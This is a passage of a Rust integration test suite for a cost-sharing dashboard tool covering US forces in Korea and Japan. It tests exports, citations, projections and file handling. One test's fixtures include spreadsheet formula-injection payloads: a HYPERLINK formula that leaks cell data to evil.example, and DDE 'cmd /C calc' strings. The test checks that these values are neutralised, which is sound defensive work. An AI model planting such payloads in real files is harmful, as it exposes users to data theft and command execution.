    // Under the figure as agreed (won), the dollars reported, redone at the year's rate;
    // not under the converted dollar point.
    assert!(!detail.contains("Cross-check"), "{detail}");
    let detail = frame("2:2014<enter><enter>");
    assert!(
        detail.contains(
            "Cross-check: the $866.86 m reported, at the 2014 average rate: 912.2 bn won; the $867.0 m reported"
        ),
        "{detail}"
    );
    // 2018 has no dollar figure: converted, and never "recorded".
    let y2018 = frame("2u:2018<enter>");
    let line = y2018.lines().find(|l| l.contains("2018 ▸ ")).unwrap();
    assert!(
        line.contains("2018 ▸ $873.5 m · converted · confirmed"),
        "{line}"
    );
    assert!(
        y2018.contains("converted at 1,099.3 ₩/$ (2018 average) from 960.2 bn won"),
        "{y2018}"
    );
    // In won, 1993 is converted from its dollars.
    let y1993 = frame("2:1993<enter>");
    assert!(y1993.contains("1993 ▸ 177.3 bn won · converted"), "{y1993}");
    // A projected year says what drove it, and that the rule is extended past 2030.
    let y2031 = frame("2:2031<enter>");
    assert!(
        y2031.contains("2031 ▸ 1,685.6 bn won · projected · rule extended"),
        "{y2031}"
    );
    assert!(
        y2031.contains("+2.1 % (2029 CPI, assumed), cap 5 % · 12th SMA rule extended past 2030"),
        "{y2031}"
    );
}

#[test]
fn totals_are_labelled_with_the_years_they_sum_on_screen_and_in_files() {
    // A horizon of 2027: the Assumptions pane, project and the projections file all say
    // 2026–27, never 2026–30.
    let o = sma_dash(&[
        "render",
        "--width",
        "120",
        "--height",
        "40",
        "--horizon",
        "2027",
    ]);
    let frame = stdout(&o);
    let heading = frame
        .lines()
        .find(|l| l.contains("Scenario · bn won nominal"))
        .unwrap();
    assert!(heading.contains("2026–27"), "{heading}");
    assert!(!frame.contains("2026–30"), "{frame}");
    let json = sma_dash(&[
        "project",
        "--format",
        "json",
        "--horizon",
        "2027",
        "--cpi",
        "2.5,2027=3",
    ]);
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let totals = v["totals"].as_array().unwrap();
    assert!(totals.iter().all(|t| t["to"] == 2027), "{totals:?}");
    // The override is in the JSON's assumptions, by year.
    let cpi = v["assumptions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == "korean_cpi")
        .unwrap();
    assert_eq!(cpi["value"], 2.5);
    assert_eq!(cpi["by_year"]["2027"], 3.0);
}

/// The cells of `csv` under `column`, as a spreadsheet reads them.
fn column(csv: &str, column: &str) -> Vec<String> {
    csv_rows(csv)
        .into_iter()
        .map(|mut row| {
            row.remove(column)
                .unwrap_or_else(|| panic!("no column {column} in {csv}"))
        })
        .collect()
}

#[test]
fn csv_text_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers() {
    let data = minimal_dataset_with(Path::new("formulas"));
    let data = data.path().to_str().unwrap();
    let out = tempfile::tempdir().unwrap();
    let file = out.path().join("events.csv");
    let o = sma_dash(&[
        "export",
        "events",
        "--data",
        data,
        "-o",
        file.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let events = std::fs::read_to_string(&file).unwrap();
    assert!(
        events.contains(
            ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"10th SMA, round 1\"\")\","
        ),
        "{events}"
    );
    assert!(column(&events, "place").contains(&"'@Honolulu".to_string()));
    assert!(
        column(&events, "text").contains(&"'-1+1 then +cmd|' /C calc'!A0".to_string()),
        "{events}"
    );
    // Written to standard output, the same.
    let o = sma_dash(&["export", "events", "--data", data]);
    assert_eq!(stdout(&o), events);

    let o = sma_dash(&["export", "contributions", "--data", data]);
    let notes = column(&stdout(&o), "note");
    assert_eq!(notes[0], "'@SUM(1+1)*cmd|' /C calc'!A0", "{}", stdout(&o));
    // JSON is data, not a spreadsheet: its text is as written.
    let o = sma_dash(&[
        "export",
        "contributions",
        "--data",
        data,
        "--format",
        "json",
    ]);
    assert!(
        stdout(&o).contains("\"note\": \"@SUM(1+1)"),
        "{}",
        stdout(&o)
    );

    // `project --format csv`: the drivers ("+2.1 % …") are text and neutralised; the
    // amounts are numbers and are not.
    let o = sma_dash(&["project", "--format", "csv"]);
    let csv = stdout(&o);
    let drivers: Vec<String> = column(&csv, "driver")
        .into_iter()
        .filter(|d| !d.is_empty())
        .collect();
    assert!(drivers.iter().any(|d| d.starts_with("'+")), "{csv}");
    let formula = |d: &String| d.starts_with(['=', '+', '-', '@', '\t', '\r']);
    assert!(!drivers.iter().any(formula), "{csv}");
    assert!(
        column(&csv, "krw_bn")
            .iter()
            .all(|v| v.parse::<f64>().is_ok())
    );

    // Negative numbers stay numbers: the embedded economy has years of falling prices.
    let o = sma_dash(&["export", "economy"]);
    let csv = stdout(&o);
    let negative: Vec<f64> = ["korean_cpi_pct", "us_cpi_pct", "defense_growth_pct"]
        .iter()
        .flat_map(|c| column(&csv, c))
        .filter(|v| v.starts_with('-'))
        .map(|v| v.parse::<f64>().unwrap())
        .collect();
    assert!(!negative.is_empty(), "{csv}");
    assert!(!csv.contains("'-"), "{csv}");
}

#[test]
fn a_scenarios_file_that_does_not_read_lists_every_problem_on_stderr() {
    let data = tempfile::tempdir().unwrap();
    let file = data.path().join("sma-dash/scenarios.toml");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/scenarios/several-problems.toml");
    std::fs::copy(&fixture, &file).unwrap();
    // A saved scenario's name makes `render` read the saved scenarios.
    let o = sma_dash_with(
        &["render", "--scenario", "fine"],
        &[("XDG_DATA_HOME", data.path())],
    );
    let err = stderr(&o);
    let shown = file.display().to_string();
    assert!(
        err.starts_with(&format!("sma-dash: warning: {shown}:23:1: ")),
        "{err}"
    );
    assert!(
        err.contains("(and 6 more problems); moved it aside to"),
        "{err}"
    );
    assert!(
        err.contains("\nsma-dash: 7 problems in the scenarios file:\n"),
        "{err}"
    );
    for place in [
        ":23:1:", ":27:9:", ":28:14:", ":35:27:", ":42:15:", ":49:8:", ":56:13:",
    ] {
        assert!(
            err.contains(&format!("\n{shown}{place} ")),
            "{place}: {err}"
        );
    }
    assert!(!file.exists(), "moved aside");
}

/// The binary with `env`, stopped and failed if it has not finished in 20 seconds: a
/// file that never ends must not hang the test either.
fn sma_dash_within(args: &[&str], env: &[(&str, &Path)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_sma-dash"));
    command
        .args(args)
        .env_remove("SMA_DASH_CONFIG")
        .env("XDG_CONFIG_HOME", "/nonexistent/sma-dash-tests")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    for (name, value) in env {
        command.env(name, value);
    }
    let mut child = command.spawn().expect("the binary runs");
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > std::time::Duration::from_secs(20) {
            child.kill().unwrap();
            panic!("sma-dash {args:?} still running after 20 s");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

#[cfg(unix)]
fn mkfifo(path: &Path) {
    let status = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(status.success());
}

#[cfg(unix)]
#[test]
fn every_file_read_is_refused_at_once_unless_regular() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("fifo");
    mkfifo(&fifo);
    let fifo_shown = fifo.display().to_string();
    // The config.
    for (path, what) in [
        (fifo_shown.as_str(), "a FIFO"),
        ("/dev/zero", "a character device"),
        ("/dev/urandom", "a character device"),
    ] {
        let o = sma_dash_within(&["--config", path, "check"], &[]);
        assert_eq!(o.status.code(), Some(2));
        assert_eq!(
            stderr(&o),
            format!(
                "sma-dash: --config {path}: cannot read the config file: expected a regular file, found {what}\n"
            )
        );
    }
    // A dataset file.
    let data = minimal_dataset_with(Path::new("minimal"));
    let events = data.path().join("events.toml");
    std::fs::remove_file(&events).unwrap();
    mkfifo(&events);
    let o = sma_dash_within(&["--data", data.path().to_str().unwrap(), "check"], &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains(&format!(
            "{}: cannot read the file: expected a regular file, found a FIFO",
            events.display()
        )),
        "{}",
        stderr(&o)
    );
    std::fs::remove_file(&events).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &events).unwrap();
    let o = sma_dash_within(&["--data", data.path().to_str().unwrap(), "check"], &[]);
    assert!(
        stderr(&o).contains("expected a regular file, found a character device"),
        "{}",
        stderr(&o)
    );
    // The saved scenarios, and their lock.
    for which in ["scenarios.toml", "scenarios.toml.lock"] {
        let home = tempfile::tempdir().unwrap();
        let saved = home.path().join("sma-dash");
        std::fs::create_dir_all(&saved).unwrap();
        mkfifo(&saved.join(which));
        let o = sma_dash_within(
            &["render", "--scenario", "mine"],
            &[("XDG_DATA_HOME", home.path())],
        );
        assert_eq!(o.status.code(), Some(2), "{which}: {}", stderr(&o));
        if which == "scenarios.toml" {
            assert!(
                stderr(&o).contains("scenarios.toml: expected a regular file, found a FIFO"),
                "{}",
                stderr(&o)
            );
        }
    }
}

#[cfg(unix)]
#[test]
fn a_file_written_goes_through_what_is_not_a_regular_file() {
    let dir = tempfile::tempdir().unwrap();
    // A FIFO with a reader gets the export, and stays a FIFO.
    let fifo = dir.path().join("fifo");
    mkfifo(&fifo);
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read_to_string(fifo).unwrap())
    };
    let o = sma_dash_within(
        &["export", "contributions", "-o", fifo.to_str().unwrap()],
        &[],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let read = reader.join().unwrap();
    assert!(read.starts_with("year,basis,krw_bn"), "{read}");
    use std::os::unix::fs::FileTypeExt;
    assert!(
        std::fs::symlink_metadata(&fifo)
            .unwrap()
            .file_type()
            .is_fifo()
    );
    // `-` and /dev/stdout are standard output.
    for out in ["-", "/dev/stdout"] {
        let o = sma_dash_within(&["export", "contributions", "-o", out], &[]);
        assert!(o.status.success(), "{out}: {}", stderr(&o));
        assert!(stdout(&o).starts_with("year,basis,krw_bn"), "{out}");
        assert!(!Path::new("-").exists());
    }
    // A device is written, never replaced (as root a rename would replace it).
    let o = sma_dash_within(&["export", "contributions", "-o", "/dev/null"], &[]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        std::fs::metadata("/dev/null")
            .unwrap()
            .file_type()
            .is_char_device()
    );
    let o = sma_dash_within(&["export", "contributions", "-o", "/dev/full"], &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).starts_with("sma-dash: cannot write /dev/full: No space left on device"),
        "{}",
        stderr(&o)
    );
    // The same file for both images is refused before anything is written.
    let both = dir.path().join("chart");
    let both_shown = both.to_str().unwrap();
    let o = sma_dash_within(
        &["chart", "costs", "--svg", both_shown, "--png", both_shown],
        &[],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("--svg and --png name the same file"),
        "{}",
        stderr(&o)
    );
    assert!(!both.exists());
    let o = sma_dash_within(
        &[
            "chart",
            "costs",
            "--svg",
            both_shown,
            "--png",
            &format!("{}/./chart", dir.path().display()),
        ],
        &[],
    );
    assert_eq!(o.status.code(), Some(2), "the same file spelt otherwise");
}

#[test]
fn render_writes_no_file_and_says_so() {
    let dir = tempfile::tempdir().unwrap();
    for (keys, said) in [
        ("2e", "`render` draws a frame and writes no file"),
        (
            "2i",
            "image failed: `render` draws a frame and writes no file",
        ),
        (
            "s<enter>",
            "not saved: `render` draws a frame and writes no file",
        ),
    ] {
        let o = Command::new(env!("CARGO_BIN_EXE_sma-dash"))
            .args(["render", "--width", "120", "--height", "40", "--keys", keys])
            .current_dir(dir.path())
            .env("XDG_DATA_HOME", dir.path())
            .env("XDG_CONFIG_HOME", "/nonexistent/sma-dash-tests")
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", stderr(&o));
        assert!(stdout(&o).contains(said), "{keys}: {}", stdout(&o));
    }
    let left: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert!(left.is_empty(), "nothing written: {left:?}");
}

#[test]
fn a_source_title_with_wide_characters_keeps_its_url_on_a_row_of_its_own() {
    // R11's title mixes Hangul, a CJK ideograph (史) and Latin: it wraps to two rows at
    // 80 columns, and its URL goes below both, not over the second.
    let o = sma_dash(&[
        "render",
        "--width",
        "80",
        "--height",
        "50",
        "--keys",
        "ogjj<enter>",
    ]);
    let screen = stdout(&o);
    let rows: Vec<&str> = screen.lines().collect();
    let title = rows
        .iter()
        .position(|r| r.contains("R11 한미 방위비협상"))
        .expect("R11 in the detail");
    let url = rows
        .iter()
        .position(|r| r.contains("https://news.zum.com/articles/56404698"))
        .expect("R11's URL");
    assert!(
        url > title + 1,
        "the title wraps to two rows above its URL: {screen}"
    );
    assert!(rows[url].starts_with("│  https://"), "{}", rows[url]);
}

#[cfg(unix)]
#[test]
fn a_write_cut_short_by_a_signal_leaves_no_temporary_file() {
    use sma_dash::data::synthetic::synthetic_files;
    // A dataset large enough that its export takes a while to write and fsync.
    let data = tempfile::tempdir().unwrap();
    for f in synthetic_files(10_000, 30, 10) {
        std::fs::write(data.path().join(f.name), f.text).unwrap();
    }
    // Its years run past the default horizon.
    let config = data.path().join("config.toml");
    std::fs::write(&config, "[assumptions]\nhorizon = 2100\n").unwrap();
    let out_dir = tempfile::tempdir().unwrap();
    let out = out_dir.path().join("events.json");
    let temps = || -> Vec<std::path::PathBuf> {
        std::fs::read_dir(out_dir.path())
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.to_string_lossy().ends_with(".tmp"))
            .collect()
    };
    let mut caught = 0;
    for signal in ["TERM", "INT", "HUP"] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_sma-dash"))
            .args(["export", "events", "--format", "json", "--data"])
            .arg(data.path())
            .arg("--config")
            .arg(&config)
            .arg("-o")
            .arg(&out)
            .env("XDG_CONFIG_HOME", "/nonexistent/sma-dash-tests")
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        // Wait for the temporary file to appear, then signal at once.
        let start = std::time::Instant::now();
        while temps().is_empty() && child.try_wait().unwrap().is_none() {
            assert!(start.elapsed() < std::time::Duration::from_mins(2));
        }
        let writing = !temps().is_empty();
        let _ = Command::new("kill")
            .args(["-s", signal, &child.id().to_string()])
            .status();
        let status = child.wait().unwrap();
        // Ended by the signal: by its handler (128 + its number) or, without one, by
        // the signal itself.
        use std::os::unix::process::ExitStatusExt;
        let ended = status.code().is_some_and(|c| c > 128) || status.signal().is_some();
        if writing && ended {
            caught += 1;
            assert_eq!(temps(), Vec::<std::path::PathBuf>::new(), "SIG{signal}");
        }
        let _ = std::fs::remove_file(&out);
    }
    assert!(
        caught > 0,
        "no signal arrived while the file was being written"
    );
}

#[test]
fn cite_prints_what_y_copies_and_refuses_what_the_dataset_does_not_hold() {
    use sma_dash::app::Pane;
    use sma_dash::app::cite::Cited;
    use sma_dash::data::Dataset;
    let mut app = sma_dash::config::default_app(Dataset::embedded().unwrap());
    app.year = 2014;
    let expected = app.citation(&Cited::Figure(Pane::Costs)).unwrap().text;
    let out = sma_dash(&["cite", "--year", "2014"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        format!("{expected}\n")
    );
    let round = app
        .data
        .events
        .iter()
        .position(|e| e.id == "sma-10-round-1")
        .unwrap();
    let event = app.citation(&Cited::Event(round)).unwrap().text;
    let out = sma_dash(&["cite", "--event", "sma-10-round-1"]);
    assert_eq!(String::from_utf8_lossy(&out.stdout), format!("{event}\n"));
    let out = sma_dash(&["cite", "--source", "R29"]);
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("[R29] Cost-sharing talks"));
    let out = sma_dash(&["cite", "--event", "nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("cite: no event \"nope\" in the dataset"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = sma_dash(&["cite", "--year", "1900"]);
    assert_eq!(out.status.code(), Some(2));
    // One of them is asked for.
    assert_eq!(sma_dash(&["cite"]).status.code(), Some(2));
}

/// The command a status line names between backticks, run: its output.
fn run_named_command(status: &str) -> String {
    let command = status
        .split('`')
        .nth(1)
        .unwrap_or_else(|| panic!("no command in {status:?}"));
    let words: Vec<&str> = command.split_whitespace().collect();
    assert_eq!(words[0], "sma-dash", "{command}");
    let out = sma_dash(&words[1..]);
    assert!(out.status.success(), "{command}: {}", stderr(&out));
    stdout(&out)
}

#[test]
fn y_on_both_hosts_names_the_cite_command_that_prints_what_it_copies() {
    use sma_dash::app::{Action, Pane, update};
    use sma_dash::econ::compare::MeasureKind;
    let hosts = sma_dash::data::Hosts::embedded().unwrap();
    let config = sma_dash::config::Config::defaults();
    let mut app = sma_dash::app::App::with_hosts(hosts, &config.start, config.keymap, |_| {});
    // H twice: both hosts; on Costs, c twice: per US service member.
    update(&mut app, Action::CycleHost);
    update(&mut app, Action::CycleHost);
    update(&mut app, Action::Focus(Pane::Costs));
    update(&mut app, Action::CycleMetric);
    update(&mut app, Action::CycleMetric);
    assert_eq!(app.inputs().measure, MeasureKind::PerMember);
    app.year = 2014;
    // What `y` copies (the dashboard's test holds that it copies this), and what it
    // says where there is no clipboard.
    let copy = |app: &mut sma_dash::app::App| {
        let cited = app.cited().expect("the figure at the cursor");
        let text = app.citation(&cited).expect("a citation").text;
        app.clipboard_off = Some("no clipboard here".into());
        update(app, Action::Copy);
        (text, app.status.clone().unwrap_or_default())
    };
    let (copied, status) = copy(&mut app);
    assert!(
        copied.contains("($ thousand per US service member)"),
        "{copied}"
    );
    assert!(
        status.ends_with(
            "`sma-dash cite --year 2014 --measure per-member --host all` prints the same text"
        ),
        "{status}"
    );
    assert_eq!(run_named_command(&status), format!("{copied}\n"));
    // Real dollars name their base year; the figures follow it.
    update(&mut app, Action::CycleMetric);
    update(&mut app, Action::CycleMetric);
    update(&mut app, Action::CycleMetric);
    update(&mut app, Action::CycleMetric);
    assert_eq!(app.inputs().measure, MeasureKind::RealUsd);
    let (copied, status) = copy(&mut app);
    let base = app.inputs().assumptions.base_year;
    assert!(
        status.contains(&format!("--measure real-dollars --real {base} --host all")),
        "{status}"
    );
    assert_eq!(run_named_command(&status), format!("{copied}\n"));
    // Troops: both hosts' counts.
    update(&mut app, Action::Focus(Pane::Troops));
    let (copied, status) = copy(&mut app);
    assert!(
        copied.contains("\nJapan: US troops in Japan, 2014: "),
        "{copied}"
    );
    assert!(
        status.ends_with("`sma-dash cite --troops 2014 --host all` prints the same text"),
        "{status}"
    );
    assert_eq!(run_named_command(&status), format!("{copied}\n"));
    // A measure is of both hosts' figures; a metric and --usd of one host's.
    for args in [
        &["cite", "--year", "2014", "--measure", "gdp"][..],
        &[
            "cite",
            "--troops",
            "2014",
            "--measure",
            "gdp",
            "--host",
            "all",
        ],
        &["cite", "--year", "2014", "--usd", "--host", "all"],
        &[
            "cite", "--year", "2014", "--metric", "change", "--host", "all",
        ],
    ] {
        let out = sma_dash(args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(
            stderr(&out).contains("--measure"),
            "{args:?}: {}",
            stderr(&out)
        );
    }
}

#[test]
fn cite_follows_the_host_asked_for_and_cites_a_share_estimate() {
    // Japan's figure: its fiscal year, its unit, its sources, as `y` copies it with
    // Japan shown.
    use sma_dash::app::Pane;
    use sma_dash::app::cite::Cited;
    let hosts = sma_dash::data::Hosts::embedded().unwrap();
    let config = sma_dash::config::Config::defaults();
    let mut app = sma_dash::app::App::with_hosts(hosts, &config.start, config.keymap, |_| {});
    // H: Japan.
    sma_dash::app::update(&mut app, sma_dash::app::Action::CycleHost);
    app.year = 2020;
    let expected = app.citation(&Cited::Figure(Pane::Costs)).unwrap().text;
    assert_eq!(
        app.cite_command(&Cited::Figure(Pane::Costs)),
        "sma-dash cite --year 2020 --host jp"
    );
    let out = sma_dash(&["cite", "--year", "2020", "--host", "jp"]);
    let text = stdout(&out);
    assert_eq!(text, format!("{expected}\n"));
    assert!(
        text.starts_with("Japan's host-nation support, FY2020: 199.3 billion yen"),
        "{text}"
    );
    assert!(text.contains("published: 1,993億円"), "{text}");
    assert!(!text.contains("억원"), "{text}");
    let japan = app.hosts.japan().unwrap();
    for id in &japan.contribution(2020).unwrap().sources {
        assert!(text.contains(&format!("[{id}] ")), "{id}: {text}");
    }
    // --growth sets the custom growth of the host shown, as on the dashboard.
    let custom = |growth: &[&str]| {
        let args = [
            &[
                "cite",
                "--year",
                "2030",
                "--host",
                "jp",
                "--scenario",
                "custom",
            ][..],
            growth,
        ]
        .concat();
        let out = sma_dash(&args);
        assert!(out.status.success(), "{}", stderr(&out));
        stdout(&out)
    };
    let five = custom(&["--growth", "5"]);
    assert_ne!(five, custom(&[]));
    assert_eq!(five, custom(&["--jp-growth", "5"]));
    assert!(five.contains("japan_custom_growth=5"), "{five}");
    // Japan's troops say so.
    let troops = stdout(&sma_dash(&["cite", "--troops", "2015", "--host", "jp"]));
    assert!(
        troops.starts_with("US troops in Japan, 2015: 55,744"),
        "{troops}"
    );
    // Both: each host's figure, as `y` copies it with both shown.
    let both = stdout(&sma_dash(&[
        "cite",
        "--year",
        "2014",
        "--measure",
        "dollars",
        "--host",
        "all",
    ]));
    assert!(
        both.starts_with("Korea, 2014 (calendar year): $874.3 m"),
        "{both}"
    );
    assert!(
        both.contains("\nJapan, FY2014 (Apr 2014–Mar 2015): $"),
        "{both}"
    );
    // Japan's source, asked for without --host: the message says how.
    let out = sma_dash(&["cite", "--source", "J65"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("cite: source \"J65\" is Japan's: add --host jp"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A share estimate, whichever host: its definition and its sources, whole.
    let share = stdout(&sma_dash(&["cite", "--share", "gao-21-270-jp-share"]));
    assert!(
        share.starts_with(
            "Japan, FY2016–19 (US fiscal years): 37.6 % — Host share of DoD obligations"
        ),
        "{share}"
    );
    assert!(share.contains("US military pay included"), "{share}");
    assert!(share.contains("[J70] "), "{share}");
    assert!(!share.contains("not in the sources table"), "{share}");
    let out = sma_dash(&["cite", "--share", "nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cite: no share estimate \"nope\""));
}

#[test]
fn journey_3_gives_the_same_totals_spans_and_labels_on_screen_in_project_and_in_files() {
    // The 12th SMA over 2026–30 at 3 % Korean inflation, against a $10 bn a year
    // demand, in dollars: every front end sums the same years and says which.
    let args = ["--cpi", "3", "--usd"];
    let project = stdout(&sma_dash(&[&["project"][..], &args].concat()));
    let csv = stdout(&sma_dash(
        &[&["project", "--format", "csv"][..], &args].concat(),
    ));
    let export = stdout(&sma_dash(&[&["export", "projections"][..], &args].concat()));
    assert_eq!(csv, export, "project --format csv and export projections");
    let rows = csv_rows(&csv);
    let label = "2026 recorded + 2027–30 projected";
    for scenario in ["12th-sma", "demand-10bn"] {
        let total = find(
            &rows,
            &[("scenario", scenario), ("status", "total"), ("span", label)],
        );
        assert_eq!(total["year"], "");
        // The total is the sum of the year rows it names.
        let sum: f64 = (2026..=2030)
            .map(|y| {
                let y = y.to_string();
                find(&rows, &[("scenario", scenario), ("year", y.as_str())])["usd_m"]
                    .parse::<f64>()
                    .unwrap()
            })
            .sum();
        let usd: f64 = total["usd_m"].parse().unwrap();
        assert!((usd - sum).abs() < 0.2, "{scenario}: {usd} vs {sum}");
        // The table says the same sum with the same label.
        let krw: f64 = total["krw_bn"].parse().unwrap();
        let line = project
            .lines()
            .find(|l| l.starts_with("total 2026–30") && l.contains(scenario))
            .unwrap();
        assert!(line.ends_with(label), "{line}");
        assert!(
            line.contains(&thousands_1(krw))
                && line.contains(&format!("${}", sma_dash::numbers::thousands(usd, 0))),
            "{line} / {krw} {usd}"
        );
    }
    // The dashboard's Costs table (what its `e` file writes) and Assumptions pane.
    let screen = stdout(&sma_dash(&[
        "render", "--width", "200", "--height", "60", "--cpi", "3", "--keys", "2tzG",
    ]));
    let total = find(
        &rows,
        &[
            ("scenario", "12th-sma"),
            ("status", "total"),
            ("span", label),
        ],
    );
    let krw: f64 = total["krw_bn"].parse().unwrap();
    let line = screen
        .lines()
        .find(|l| l.contains("2026–30") && l.contains(label))
        .unwrap_or_else(|| panic!("{screen}"));
    assert!(line.contains(&thousands_1(krw)), "{line}");
    let screen = stdout(&sma_dash(&[
        "render", "--width", "120", "--height", "40", "--cpi", "3", "--keys", "4z",
    ]));
    assert!(
        screen.contains(
            "totals: 2026 recorded + 2027–30 projected · 2026 recorded + 2027–35 projected"
        ),
        "{screen}"
    );
    assert!(screen.contains(&thousands_1(krw)), "{screen}");
}

/// "7,921.8": as the table and the panes write an amount.
fn thousands_1(v: f64) -> String {
    sma_dash::numbers::thousands(v, 1)
}

#[test]
fn the_2014_dollar_figure_reads_the_same_on_screen_in_export_and_as_text() {
    use sma_dash::econ::{Assumptions, CostView, Currency, Economy, cost_series};
    let d = sma_dash::data::Dataset::embedded().unwrap();
    let a = Assumptions::from_history(&d);
    let e = Economy::new(&d, &a);
    let view = CostView {
        currency: Currency::Usd,
        ..CostView::default()
    };
    let p = cost_series(&e, None, &view)
        .into_iter()
        .find(|p| p.year == 2014)
        .unwrap();
    let text = p.describe(&view, a.base_year);
    assert_eq!(
        text,
        "2014: 874.3 million $, nominal · converted at 1,052.3 ₩/$ (2014 average) · confidence: confirmed"
    );
    // The pane's line and the file say the same value and status.
    let screen = stdout(&sma_dash(&[
        "render",
        "--width",
        "120",
        "--height",
        "40",
        "--keys",
        "2u:2014<enter>",
    ]));
    assert!(
        screen.contains("2014 ▸ $874.3 m · converted · confirmed"),
        "{screen}"
    );
    let rows = csv_rows(&stdout(&sma_dash(&["export", "contributions"])));
    let row = find(&rows, &[("year", "2014")]);
    assert_eq!(
        (row["usd_m"].as_str(), row["usd_status"].as_str()),
        ("874.3", "converted")
    );
}

/// The `assumptions` line of `project`'s table: "japanese_cpi=3.2; …".
fn assumptions_line(o: &Output) -> String {
    stdout(o)
        .lines()
        .find(|l| l.starts_with("assumptions: "))
        .unwrap_or_else(|| panic!("an assumptions line: {}", stdout(o)))
        .to_string()
}

#[test]
fn growth_sets_the_custom_growth_of_the_host_shown_and_jp_growth_japan_s() {
    let o = sma_dash(&["project", "--host", "jp", "--growth", "5"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let line = assumptions_line(&o);
    assert!(line.contains("japan_custom_growth=5;"), "{line}");
    assert!(
        !line.contains(" custom_growth"),
        "Korea's is not Japan's: {line}"
    );
    let o = sma_dash(&["project", "--host", "jp", "--jp-growth", "6.5"]);
    assert!(assumptions_line(&o).contains("japan_custom_growth=6.5;"));
    // Korea's --growth is Korea's alone.
    let o = sma_dash(&["project", "--growth", "5"]);
    let line = assumptions_line(&o);
    assert!(line.contains("custom_growth=5;"), "{line}");
    assert!(!line.contains("japan"), "{line}");
    // Both hosts: --growth sets each, --jp-growth Japan's over it.
    let o = sma_dash(&[
        "project",
        "--host",
        "all",
        "--growth",
        "5",
        "--jp-growth",
        "2",
        "--format",
        "json",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let json: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    let value = |i: usize, name: &str| {
        json[i]["assumptions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["name"] == name)
            .map(|a| a["value"].as_f64().unwrap())
    };
    assert_eq!(value(0, "custom_growth"), Some(5.0));
    assert_eq!(value(1, "japan_custom_growth"), Some(2.0));
    // Japan's option where Japan is not shown: refused by name.
    let o = sma_dash(&["project", "--jp-growth", "6"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o).trim_end(),
        "sma-dash: --jp-growth sets Japan's figures, which --host kr does not show (add --host jp or all)"
    );
}

#[test]
fn japan_s_band_spreads_are_japan_s_own_rates() {
    let o = sma_dash(&["project", "--host", "jp", "--band", "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let json: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    let names: Vec<&str> = json["band"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["japanese_cpi", "us_cpi", "jpy_per_usd"]);
    let o = sma_dash(&["project", "--host", "jp", "--band"]);
    let text = stdout(&o);
    for korean in ["Korean", "won", "ROK", "krw", "korean"] {
        assert!(!text.contains(korean), "{korean}: {text}");
    }
}

#[test]
fn an_old_saved_scenario_leaves_japan_s_assumptions_and_a_new_one_sets_them() {
    let data = tempfile::tempdir().unwrap();
    let dir = data.path().join("sma-dash");
    std::fs::create_dir_all(&dir).unwrap();
    let old = "[[scenario]]\nname = \"old\"\nsaved = \"2026-11-27T10:00:00Z\"\nkorean_cpi = 4.5\nus_cpi = 2.63\nkrw_per_usd = 1421.4\ndefense_growth = 7.5\ncustom_growth = 4.9\nbase_year = 2025\nhorizon = 2035\n";
    let new = format!(
        "{}\njapanese_cpi = 0.5\njpy_per_usd = 120.0\njapan_custom_growth = 2.5\n",
        old.replace("\"old\"", "\"new\"")
    );
    std::fs::write(dir.join("scenarios.toml"), format!("{old}\n{new}")).unwrap();
    let with_data = |args: &[&str]| sma_dash_with(args, &[("XDG_DATA_HOME", data.path())]);
    let plain = assumptions_line(&sma_dash(&["project", "--host", "jp"]));
    let o = with_data(&["project", "--host", "jp", "--scenario", "old"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(assumptions_line(&o), plain, "Japan's as they were");
    let o = with_data(&["project", "--host", "jp", "--scenario", "new"]);
